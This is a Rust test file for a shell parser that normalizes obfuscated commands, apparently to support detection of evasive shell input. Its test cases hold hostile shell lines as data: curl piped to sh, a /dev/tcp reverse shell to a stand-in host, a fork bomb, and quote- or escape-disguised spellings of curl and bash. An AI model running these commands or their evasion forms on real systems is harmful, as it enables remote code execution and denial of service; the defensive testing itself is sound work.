#![allow(clippy::unwrap_used)]

use super::lower;
use crate::lower::render::render;

#[track_caller]
fn check(cases: &[(&str, &str)]) {
    let mut failed = String::new();
    for (text, expected) in cases {
        let got = render(&lower(text));
        if got != *expected {
            failed.extend([format!("{text:?}\n  expected {expected}\n  got      {got}\n")]);
        }
    }
    assert!(failed.is_empty(), "\n{failed}");
}

#[test]
fn quotes_vanish_from_words() {
    check(&[
        ("curl -s x.test", "[curl -s x.test]"),
        (r#"c""url x"#, "[curl x]"),
        ("cu'r'l x", "[cu'r'l x]"),
        (r"b\ash", r"[b'a'sh]"),
        (r"\curl x", "['c'url x]"),
        ("echo 'a b' \"c d\"", "[echo 'a b' 'c d']"),
        ("echo ''", "[echo '']"),
        (r#"echo "a\"b\$c\d""#, r#"[echo 'a"b$c\d']"#),
        ("cu\\\nrl x", "[curl x]"),
        ("curl \\\n  x", "[curl x]"),
        ("cu\\\r\nrl x", "[curl x]"),
        ("\"/bin/b\"'as'h", "['/bin/b''as'h]"),
        ("echo a#b # c", "[echo a#b]"),
        ("# only\n  # comments", ""),
        ("~/x/y ~", "[~/x/y ~]"),
        (
            "\"cu\"rl -s http://x.test/a | sudo -E /bin/b\\ash -s",
            "['cu'rl -s http://x.test/a] | [sudo -E /bin/b'a'sh -s]",
        ),
    ]);
}

#[test]
fn ansi_c_quotes_are_decoded() {
    check(&[
        (r"$'\x63url' x", "['curl' x]"),
        (r"$'\u0062ash'", "['bash']"),
        (r"$'\U00000062ash'", "['bash']"),
        (r"$'\142\141sh'", "['bash']"),
        (r"echo $'a\tb\e\cA\''", "[echo 'a\tb\u{1b}\u{1}'']"),
        (r"echo $'a\0b'", "[echo 'a']"),
        (r"echo $'\xc3\xa9'", "[echo 'é']"),
        (r"echo $'\x{63}\q'", "[echo 'c\\q']"),
        (r#"$"bash" x"#, "['bash' x]"),
        (r#"echo "$'x'""#, "[echo '$'x'']"),
    ]);
}

#[test]
fn braces_become_words() {
    check(&[
        ("{curl,-s,x.test/a}", "[curl -s x.test/a]"),
        ("/bin/{b,}a{s,}h", "[/bin/bash /bin/bah /bin/ash /bin/ah]"),
        ("echo {a..e}", "[echo a b c d e]"),
        ("echo {1..10..3}", "[echo 1 4 7 10]"),
        ("echo {03..1}", "[echo 03 02 01]"),
        ("echo a{b,{c,d}}e", "[echo abe ace ade]"),
        ("echo {a,b", "[echo {a,b]"),
        ("echo {a} {} a,b", "[echo {a} {} a,b]"),
        ("echo {a{b,c}}", "[echo {ab} {ac}]"),
        ("echo {{a,b}", "[echo {a {b]"),
        ("echo '{a,b}' \\{a,b}", "[echo '{a,b}' '{'a,b}]"),
        ("echo {'a b',$c}d", "[echo 'a b'd ${c}d]"),
        ("x={a,b}", "x := \"{a,b}\""),
        ("echo {a,,b}", "[echo a b]"),
        ("echo ${x}{1,2}", "[echo ${x}1 ${x}2]"),
    ]);
}

#[test]
fn expansions_keep_their_operators() {
    check(&[
        ("c${u}rl", "[c${u}rl]"),
        ("w${x:-}get", "[w${x:-\"\"}get]"),
        ("cu$@rl ba$*sh", "[cu${@}rl ba${*}sh]"),
        ("curl${IFS}-s${IFS}x.test", "[curl${IFS}-s${IFS}x.test]"),
        ("$a$b \"$c\"", "[${a}${b} \"${c}\"]"),
        ("echo ${!p} ${!p*} ${!a[@]}", "[echo ${!p} ${!p*} ${!a[\"@\"]}]"),
        ("echo ${s:3:4} ${s: -2} ${s:n}", "[echo ${s:3:4} ${s:-2} ${s:${n}}]"),
        ("echo ${P^^} ${P^} ${P,,} ${P,}", "[echo ${P^^} ${P^} ${P,,} ${P,}]"),
        (
            "echo ${v//x/} ${v/a/b} ${v/#a/b} ${v/%a/b} ${v//x}",
            "[echo ${v//\"x\"/\"\"} ${v/\"a\"/\"b\"} ${v/#\"a\"/\"b\"} ${v/%\"a\"/\"b\"} ${v//\"x\"}]",
        ),
        ("echo ${#v} ${#} ${#a[@]} $#", "[echo ${#v} ${#} ${#a[\"@\"]} ${#}]"),
        ("echo ${v#a} ${v##*/} ${v%.*} ${v%%.*}", "[echo ${v#\"a\"} ${v##\"*/\"} ${v%\".*\"} ${v%%\".*\"}]"),
        (
            "echo ${v:=a} ${v=a} ${v:+a} ${v+a} ${v:?a} ${v-a}",
            "[echo ${v:=\"a\"} ${v:=\"a\"} ${v:+\"a\"} ${v:+\"a\"} ${v:?\"a\"} ${v:-\"a\"}]",
        ),
        ("echo ${v@Q} ${v@U} ${v@L} ${v@E}", "[echo ${v@Q} ${v^^} ${v,,} ${v@E}]"),
        ("echo ${a[0]} ${a[@]} ${a[$i]} ${a[k]}", "[echo ${a[0]} ${a[\"@\"]} ${a[${i}]} ${a[\"k\"]}]"),
        ("echo ${a:-${b:-'c d'}}", "[echo ${a:-${b:-\"c d\"}}]"),
        ("echo \"${a:-'c'}\"", "[echo \"${a:-\"'c'\"}\"]"),
        ("echo \"${a:-\"c d\"}\"", "[echo \"${a:-\"c d\"}\"]"),
        ("echo ${a:-$(id)}", "[echo ${a:-$([id])}]"),
        ("echo $1 ${10} $10 $? $$ $! $- $0", "[echo ${1} ${10} ${1}0 ${?} ${$} ${!} ${-} ${0}]"),
        ("echo $ a$ \"$\"", "[echo $ a$ '$']"),
        ("echo ${@:2} ${*:1:3}", "[echo ${@:2} ${*:1:3}]"),
        ("${x:0:1}${x:1:$n}", "[${x:0:1}${x:1:${n}}]"),
    ]);
}

#[test]
fn assignments_and_declarations() {
    check(&[
        ("a=b", "a := \"b\""),
        ("a=", "a := \"\""),
        ("a+=b", "a += \"b\""),
        ("a=cu; b=rl; $a$b x", "a := \"cu\"; b := \"rl\"; [${a}${b} x]"),
        ("a=1 b=2", "a := \"1\"; b := \"2\""),
        ("A=1 B=$x cmd y", "[A=1 B=${x} cmd y]"),
        ("a=(x 'y z' $v \"${w[@]}\")", "a := [\"x\", \"y z\", *${v}, *${w[\"@\"]}]"),
        ("a+=(z)", "a += [\"z\"]"),
        ("a[1]=x", "a[1] := \"x\""),
        ("declare -A m=([k]=v [j]=\"w x\")", "m := {\"k\": \"v\", \"j\": \"w x\"}"),
        ("export A=1", "A :=export \"1\""),
        ("export A", "[export A]"),
        ("export \"A=$b c\"", "A :=export <${b}, \" c\">"),
        ("declare -x A=1", "A :=export \"1\""),
        ("declare -n r=cmd; $r", "r :=ref \"cmd\"; [${r}]"),
        ("local x=$(id) y", "x := $([id]); [local y]"),
        ("readonly -a L=(a b)", "L := [\"a\", \"b\"]"),
        ("export -p", "[export -p]"),
        ("a=$'x\\ny'", "a := \"x\\ny\""),
        ("a=\"$(cat x)\" > f", "a := $([cat x]); [>f]"),
        ("alias l=curl ll='ls -l'", "alias l = \"curl\"; alias ll = \"ls -l\"; [alias l=curl ll='ls -l']"),
    ]);
}

#[test]
fn substitutions() {
    check(&[
        ("$(curl x)", "[$([curl x])]"),
        ("\"$(curl x)\" y", "[\"$([curl x])\" y]"),
        ("`curl x`", "[$([curl x])]"),
        (r"echo `a \`b c\` d`", "[echo $([a $([b c]) d])]"),
        (r#"echo "`a \"b\"`""#, "[echo \"$([a 'b'])\"]"),
        (r"echo `a \$x \\y`", "[echo $([a ${x} 'y'])]"),
        ("bash <(curl x)", "[bash <([curl x])]"),
        ("curl x > >(sh)", "[curl x >>([sh])]"),
        (". <(curl x)", "[. <([curl x])]"),
        ("echo $(a | b; c)", "[echo $([a] | [b]; [c])]"),
        ("echo $(<f)", "[echo $([<f])]"),
        ("echo $(a $(b \"$(c)\"))", "[echo $([a $([b \"$([c])\"])])]"),
        ("echo $((1+2*3)) $((16#ff)) $((0x10 << 1))", "[echo 7 255 32]"),
        ("echo $((x + 1)) $(( $(id) ))", "[echo other(${x}) other($([id]))]"),
        ("echo $[1+1]", "[echo 2]"),
        ("echo $( (a) )", "[echo $(group{[a]})]"),
        ("echo $((a) | b)", "[echo $(group{[a]} | [b])]"),
        ("echo ${ curl x; }", "[echo $([curl x])]"),
        ("diff =(a) =(b)", "[diff <([a]) <([b])]"),
        ("x=$(cat <<E\nhi\nE\n) y", "[x=$([cat <<\"hi\\n\"]) y]"),
        ("echo \"a $(echo \")\") b\"", "[echo 'a '\"$([echo ')'])\"' b']"),
        ("echo $(case x in a) b;; esac)", "[echo $(branch(\"x\", \"a\"){[b]})]"),
    ]);
}

#[test]
fn redirections() {
    check(&[
        ("a > f", "[a >f]"),
        ("a >| f >> g 2> h", "[a >f >>g 2>h]"),
        ("a < f <> g", "[a <f <>g]"),
        ("a &> f; b &>> g; c >& h", "[a &>f]; [b &>g]; [c &>h]"),
        ("a 2>&1 >&2 <&3 3>&-", "[a 2>&1 >&2 0>&3 3>&-]"),
        ("> f", "[>f]"),
        ("a {fd}> f", "[a 10>f]"),
        ("exec 3<>/dev/tcp/h.test/80; cat <&3 | sh", "[exec 3<>/dev/tcp/h.test/80]; [cat 0>&3] | [sh]"),
        ("bash -i >& /dev/tcp/h.test/1 0>&1", "[bash -i &>/dev/tcp/h.test/1 0>&1]"),
        ("rev<<<hsab", "[rev <<<hsab]"),
        ("sh <<< \"$p\"", "[sh <<<\"${p}\"]"),
        ("a >\"$x\" b", "[a b >\"${x}\"]"),
        ("echo 2 >f 12>g", "[echo 2 >f 12>g]"),
        ("source /dev/stdin <<<\"$p\"", "[source /dev/stdin <<<\"${p}\"]"),
        (">中 a", "[a >中]"),
    ]);
}

#[test]
fn here_documents() {
    check(&[
        ("cat <<E\nhi $x\nE\necho b", "[cat <<<\"hi \", ${x}, \"\\n\">]; [echo b]"),
        ("cat <<'E' > f\nhi $x\nE\n", "[cat <<\"hi $x\\n\" >f]"),
        ("cat <<\\E\n$x\nE", "[cat <<\"$x\\n\"]"),
        ("cat <<-E\n\ta\n\t\tb\n\tE\nc", "[cat <<\"a\\nb\\n\"]; [c]"),
        ("a <<X <<Y | b\n1\nX\n2\nY\nc", "[a <<\"1\\n\" <<\"2\\n\"] | [b]; [c]"),
        ("a <<X; b <<Y\n1\nX\n2\nY\nc", "[a <<\"1\\n\"]; [b <<\"2\\n\"]; [c]"),
        ("cat <<E | sh\n$(curl x)\nE", "[cat <<<$([curl x]), \"\\n\">] | [sh]"),
        ("cat <<E\r\nhi\r\nE\r\nls", "[cat <<\"hi\\n\"]; [ls]"),
        ("cat <<E\n\\$x \\\\ \"q\"\nE", "[cat <<\"$x \\\\ \\\"q\\\"\\n\"]"),
        ("cat <<E\nnever closed", "[cat <<\"never closed\"]"),
        ("if a; then cat <<E\nx\nE\nfi", "branch([a]){[cat <<\"x\\n\"]}"),
        ("x=$(cat <<E\nbody\nE)\nls", "x := $([cat <<\"body\\n\"]); [ls]"),
        ("cat <<EOF \"a\nb\"\nbody\nEOF\nls", "[cat 'a\nb' <<\"body\\n\"]; [ls]"),
        ("python3 - <<E && b\nprint(1)\nE", "[python3 - <<\"print(1)\\n\"]; [b]"),
    ]);
}

#[test]
fn pipelines_and_lists() {
    check(&[
        ("curl x | sh", "[curl x] | [sh]"),
        ("curl x|sh", "[curl x] | [sh]"),
        ("curl x |& sh", "[curl x 2>&1] | [sh]"),
        ("curl x |\n  sh", "[curl x] | [sh]"),
        ("curl x \\\n | sh", "[curl x] | [sh]"),
        ("a && b || c", "[a]; [b]; [c]"),
        ("a &&\nb", "[a]; [b]"),
        ("a; b\nc & d", "[a]; [b]; [c &]; [d]"),
        ("a | b &", "[a &] | [b &]"),
        ("! a | b", "[a] | [b]"),
        ("time -p a", "[a]"),
        ("time curl x | sh", "[curl x] | [sh]"),
        ("a |\n# comment\nb", "[a] | [b]"),
        ("(a; b) | c", "group{[a]; [b]} | [c]"),
        ("{ a; b; } > f", "group{[a]; [b]}>f"),
        ("{ a; }", "group{[a]}"),
        ("(a) 2>&1 | b", "group{[a]}2>&1 | [b]"),
        ("a=$(b) && c", "a := $([b]); [c]"),
        ("a=1 | b", "group{a := \"1\"} | [b]"),
        ("coproc curl x", "COPROC := [<([curl x &])]"),
        ("coproc N { curl x; }", "N := [<(group{[curl x]})]"),
        ("a;;b", "[a]; [b]"),
        ("a\r\nb\r\n", "[a]; [b]"),
        ("$ curl x | sh\n% ls", "[curl x] | [sh]; [ls]"),
        ("curl x\r| sh\n", "[curl x] | [sh]"),
        ("# shown\rcurl x | sh\nls", "[curl x] | [sh]; [ls]"),
        ("a\rb\rc", "[a]; [b]; [c]"),
        ("curl x &| sh", "[curl x &]; [sh]"),
    ]);
}

#[test]
fn compound_commands() {
    check(&[
        ("if a; then b; elif c; then d; else e; fi", "branch([a], [c]){[b]}{[d]}{[e]}"),
        ("if a && b; then c; fi > f", "group{branch(group{[a]; [b]}){[c]}}>f"),
        ("if [ -f x ]; then rm x; fi", "branch([[ -f x ]]){[rm x]}"),
        ("if [[ $a == b* && -n $(id) ]]; then c; fi", "branch(other(${a}, \"==\", \"b*\", \"-n\", $([id]))){[c]}"),
        ("[[ $x =~ ^(a|b)$ ]] && c", "other(${x}, \"=~\", \"^\", \"a\", \"b\", \"$\"); [c]"),
        ("case $x in a|b) c;; *) d;; esac", "branch(${x}, \"a\", \"b\", \"*\"){[c]}{[d]}"),
        ("case x in\n (a) b ;;\n \"c d\") e\nesac", "branch(\"x\", \"a\", \"c d\"){[b]}{[e]}"),
        ("case x in a) b;& c) d;;& esac", "branch(\"x\", \"a\", \"c\"){[b]}{[d]}"),
        ("for x in a $b 'c d'; do e $x; done", "loop(x in [\"a\", *${b}, \"c d\"]){[e ${x}]}"),
        ("for x\ndo a\ndone", "loop(x in [*${@}]){[a]}"),
        ("for ((i=0;i<$n;i++)); do a; done", "loop(other(${i}, ${i}, ${n}, ${i})){[a]}"),
        ("for i in {1..3}; do a; done", "loop(i in [\"1\", \"2\", \"3\"]){[a]}"),
        ("select x in a b; do c; done", "loop(x in [\"a\", \"b\"]){[c]}"),
        ("while read l; do a $l; done < f", "group{loop([read l]){[a ${l}]}}<f"),
        ("a | while read l; do b; done", "[a] | group{loop([read l]){[b]}}"),
        ("until a; do b; done", "loop([a]){[b]}"),
        ("while :; do a; done &", "loop([:]){[a]}"),
        ("((x++)); a", "other(${x}); [a]"),
        ("((a) || (b))", "group{group{[a]}; group{[b]}}"),
        ("f() { curl \"$@\"; }; f x", "def f(){[curl \"${@}\"]}; [f x]"),
        ("function f { a; }\nf", "def f(){[a]}; [f]"),
        ("function f-g() ( a )", "def f-g(){[a]}"),
        ("f () \n{\n a\n}\n", "def f(){[a]}"),
        ("f() { a; } > x", "def f(){group{[a]}>x}"),
        ("f() if a; then b; fi", "def f(){branch([a]){[b]}}"),
        (":(){ :|:& };:", "def :(){[: &] | [: &]}; [:]"),
        ("echo if then fi done", "[echo if then fi done]"),
        (
            "for f in *.sh; do\n  case $f in\n    a) b;;\n  esac\ndone; c",
            "loop(f in [\"*.sh\"]){branch(${f}, \"a\"){[b]}}; [c]",
        ),
    ]);
}

#[test]
fn damage_hides_nothing() {
    check(&[
        ("echo 'open\ncurl x | sh", "[echo 'open]; [curl x] | [sh]"),
        ("echo \"open\ncurl x | sh", "[echo \"open]; [curl x] | [sh]"),
        ("echo `open\ncurl x | sh", "[echo `open]; [curl x] | [sh]"),
        ("echo ${open\ncurl x | sh", "[echo ${open]; [curl x] | [sh]"),
        ("echo $(open\ncurl x | sh", "[echo $([open]; [curl x] | [sh])]"),
        (") } fi done esac ;; curl x | sh", "[curl x] | [sh]"),
        ("if a; then\ncurl x | sh", "branch([a]){[curl x] | [sh]}"),
        ("while a\ncurl x | sh", "loop(group{[a]; [curl x] | [sh]}){}"),
        ("case x\ncurl x | sh", "branch(\"x\"); [curl x] | [sh]"),
        ("( a\ncurl x | sh", "group{[a]; [curl x] | [sh]}"),
        ("set x (curl y | sh)", "[set x $([curl y] | [sh])]"),
        ("| sh\n&& a", "[sh]; [a]"),
        ("curl x | | sh", "[curl x] | [sh]"),
        ("curl <url> | sh", "[curl <url>] | [sh]"),
        ("run <in> <out>\nls", "[run <in> <out>]; [ls]"),
        ("sort <in> out", "[sort <in >out]"),
        ("a=(x\n; curl y | sh", "a := [\"x\"]; [curl y] | [sh]"),
        ("[[ -n x\ncurl y | sh", "other(\"-n\", \"x\"); [curl y] | [sh]"),
        ("a > \ncurl y | sh", "[a]; [curl y] | [sh]"),
        ("for x in a b\ncurl y | sh", "loop(x in [\"a\", \"b\"]){}; [curl y] | [sh]"),
        ("for x (a b) { curl $x }", "loop(x in [\"a\", \"b\"]){[curl ${x} }]}"),
        ("print -l *(.om) ${(f)x} ${${y}:t}", "[print -l *(.om) ${x} other(<${y}, \":t\">)]"),
        ("echo don't\ncurl x | sh", "[echo don't]; [curl x] | [sh]"),
    ]);
}

#[test]
fn spans_show_the_source() {
    use crate::lower::operation::{ExpressionKind, OperationKind, RedirectKind};
    let text = "x; cu\"r\"l `a \\`b\\``<<E\nhey\nE\n";
    let program = lower(text);
    let OperationKind::Evaluate(expression) = &program.body[1].kind else { panic!() };
    let ExpressionKind::Command(command) = &expression.kind else { panic!() };
    assert_eq!(expression.span.slice(text), "cu\"r\"l `a \\`b\\``<<E");
    let words: Vec<&str> = command.words.iter().map(|word| word.span.slice(text)).collect();
    assert_eq!(words, ["cu\"r\"l", "`a \\`b\\``"]);
    let parts: Vec<&str> = command.words[0].parts.iter().map(|part| part.value.span.slice(text)).collect();
    assert_eq!(parts, ["cu", "r", "l"]);
    let ExpressionKind::Capture(outer) = &command.words[1].parts[0].value.kind else { panic!() };
    assert_eq!(outer[0].span.slice(text), "a \\`b\\`");
    let OperationKind::Evaluate(inner) = &outer[0].kind else { panic!() };
    let ExpressionKind::Command(inner) = &inner.kind else { panic!() };
    let ExpressionKind::Capture(innermost) = &inner.words[1].parts[0].value.kind else { panic!() };
    assert_eq!(innermost[0].span.slice(text), "b");
    let RedirectKind::Heredoc { span, .. } = &command.redirects[0].kind else { panic!() };
    assert_eq!(span.slice(text), "hey\n");
}

#[test]
fn damage_is_recorded() {
    for text in ["echo 'x", "fi", "a | | b", "if a; then b", "x (y)", "echo ${x", "a > ; b"] {
        assert!(!lower(text).damage.is_empty(), "{text:?}");
    }
    for text in ["echo 'x'", "if a; then b; fi", "a <in> b", "case x in a) ;; esac", "$ ls"] {
        assert!(lower(text).damage.is_empty(), "{text:?}");
    }
}

/// Runs on a stack as large as a worker's.
fn on_worker_stack(work: impl FnOnce() + Send + 'static) {
    std::thread::Builder::new().stack_size(16 << 20).spawn(work).unwrap().join().unwrap();
}

#[test]
fn deep_nesting_is_read_flat() {
    on_worker_stack(|| {
        for open in [
            "(",
            "$(",
            "{ ",
            "${x:-",
            "\"$(",
            "`",
            "<(",
            "$((",
            "if ",
            "while ",
            "case x in a) ",
            "f() { ",
            "a=(",
            "[[ ",
            "{a,",
            "@(",
            "((",
            "coproc ",
        ] {
            let text = open.repeat(20_000) + "\ncurl x.test | sh\n";
            let program = lower(&text);
            let _ = render(&program);
        }
        let program = lower(&("(".repeat(1000) + "curl x.test | sh"));
        assert!(program.truncated);
        assert!(render(&program).contains("[curl x.test] | [sh]"));
    });
}

#[test]
fn hostile_sizes_take_linear_time() {
    on_worker_stack(|| {
        for text in [
            "a|".repeat(100_000),
            "a".repeat(1 << 20),
            "cat <<A\nA\n".repeat(50_000),
            "cat <<A\n".repeat(50_000),
            "cat <<A ".repeat(50_000),
            "\"".repeat(200_001),
            "\"$(".repeat(50_000),
            "'\"`$(".repeat(50_000),
            "{a,b}".repeat(50_000),
            "{".repeat(200_000) + &"}".repeat(200_000),
            "{1..1000}".repeat(1000),
            "((".repeat(100_000),
            "$((1+".repeat(50_000),
            "((a ".repeat(50_000) + ")",
            "${x:-\"".repeat(50_000),
            "a[".repeat(100_000),
            "<a ".repeat(100_000),
            "echo \\\n".repeat(50_000),
            "\r".repeat(200_000),
            "if ".repeat(100_000),
            "cat <<A \"$(".repeat(20_000),
            ") ".repeat(100_000),
        ] {
            let started = std::time::Instant::now();
            let program = lower(&text);
            // Not a benchmark: quadratic work on these would take minutes.
            assert!(started.elapsed().as_secs() < 20, "{:?}… took {:?}", &text[..12], started.elapsed());
            drop(program);
        }
    });
}

mod properties {
    use proptest::prelude::*;

    use super::lower;
    use crate::lower::operation::*;
    use crate::source::Span;

    /// Every span of a program, gathered from its debug form: no walker can forget a node.
    fn spans(program: &Program) -> Vec<Span> {
        let text = format!("{program:?}");
        text.split("Span { start: ")
            .skip(1)
            .map(|rest| {
                let (start, rest) = rest.split_once(", end: ").unwrap();
                let end = rest.split(' ').next().unwrap();
                Span::new(start.parse().unwrap(), end.parse().unwrap())
            })
            .collect()
    }

    fn shellish() -> impl Strategy<Value = String> {
        let pieces = prop::sample::select(vec![
            "a",
            "é",
            "中",
            " ",
            " ",
            "\n",
            "\r",
            "\r\n",
            "'",
            "\"",
            "`",
            "\\",
            "$",
            "${",
            "}",
            "{",
            "(",
            ")",
            "$(",
            "$((",
            "))",
            "<<E",
            "\nE\n",
            "<<-",
            "<<<",
            "<",
            ">",
            ">&",
            "&",
            "|",
            ";",
            ";;",
            "if ",
            "then ",
            "fi ",
            "for x in ",
            "do ",
            "done ",
            "case ",
            "esac ",
            "[[ ",
            "]] ",
            "=",
            "+=",
            "x=",
            "x=(",
            "[",
            "]",
            ",",
            "..",
            "#",
            "!",
            "$'",
            "\\x",
            "/",
            ":-",
            "%",
            "^",
            "@",
            "alias ",
            "export ",
            "function ",
            "coproc ",
            "\t",
        ]);
        prop::collection::vec(pieces, 0..40).prop_map(|pieces| pieces.concat())
    }

    #[test]
    fn a_coprocess_within_backquotes_has_its_place_in_the_text() {
        // Found by the property below: where a backslash is taken away, inner places are not outer ones.
        let text = "$(alias $(\r\n中`'中$($((coproc \\x`";
        assert!(spans(&lower(text)).iter().all(|span| text.get(span.range()).is_some()));
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 3000, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn any_text_is_lowered_with_spans_inside_it(text in prop_oneof![any::<String>(), shellish(), shellish(), shellish()]) {
            let program = lower(&text);
            for span in spans(&program) {
                prop_assert!(text.get(span.range()).is_some(), "{span:?} in {text:?}");
            }
        }
    }
}

#[allow(clippy::format_collect)]
mod laws {
    use proptest::prelude::*;

    use crate::lower::operation::{ExpressionKind, OperationKind};
    use crate::lower::shell::lower;

    /// The words of the one command in a text, as far as they are constant.
    fn words(text: &str) -> Option<Vec<String>> {
        let program = lower(text);
        let [operation] = program.body.as_slice() else { return None };
        let OperationKind::Evaluate(expression) = &operation.kind else { return None };
        let ExpressionKind::Command(command) = &expression.kind else { return None };
        command.words.iter().map(crate::lower::operation::Word::literal).collect()
    }

    /// A text as a word of a shell, in one of the ways to quote.
    fn quoted(text: &str, way: u8) -> String {
        match way {
            0 => format!("'{}'", text.replace('\'', "'\\''")),
            1 => {
                let escaped: String =
                    text.chars().flat_map(|c| "\"\\$`".contains(c).then_some('\\').into_iter().chain([c])).collect();
                format!("\"{escaped}\"")
            }
            2 => text.chars().flat_map(|c| ['\\', c]).collect(),
            3 => {
                let bytes: String = text.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
                format!("$'{bytes}'")
            }
            _ => {
                let bytes: String = text.bytes().map(|byte| format!("\\{byte:03o}")).collect();
                format!("$'{bytes}'")
            }
        }
    }

    proptest! {
        #[test]
        fn a_word_quoted_in_any_way_is_the_word(a in "[!-~]{1,20}", b in "[ -~]{1,20}", one in 0_u8..5, two in 0_u8..5) {
            // Parts that are quoted in different ways are one word.
            let text = format!("echo {}{} end\n", quoted(&a, one), quoted(&b, two));
            prop_assert_eq!(words(&text), Some(vec!["echo".to_owned(), format!("{a}{b}"), "end".to_owned()]), "{}", text);
        }

        #[test]
        fn braces_make_every_combination(sizes in proptest::collection::vec(2_usize..4, 1..4)) {
            let braces: String = sizes
                .iter()
                .enumerate()
                .map(|(at, size)| {
                    let parts: Vec<String> = (0..*size).map(|part| format!("{at}{part}")).collect();
                    format!("{{{}}}", parts.join(","))
                })
                .collect();
            let all = words(&format!("echo x{braces}y\n")).unwrap_or_default();
            let expected: usize = sizes.iter().product();
            prop_assert_eq!(all.len(), expected + 1);
            let mut different = all.clone();
            different.sort();
            different.dedup();
            prop_assert_eq!(different.len(), all.len());
            prop_assert!(all.iter().skip(1).all(|word| word.starts_with('x') && word.ends_with('y')));
        }

        #[test]
        fn ranges_count_both_ways(from in -20_i64..20, to in -20_i64..20) {
            let all = words(&format!("echo {{{from}..{to}}}\n")).unwrap_or_default();
            let numbers: Vec<i64> = all.iter().skip(1).filter_map(|word| word.parse().ok()).collect();
            let expected: Vec<i64> = if from <= to { (from..=to).collect() } else { (to..=from).rev().collect() };
            prop_assert_eq!(numbers, expected);
        }
    }
}
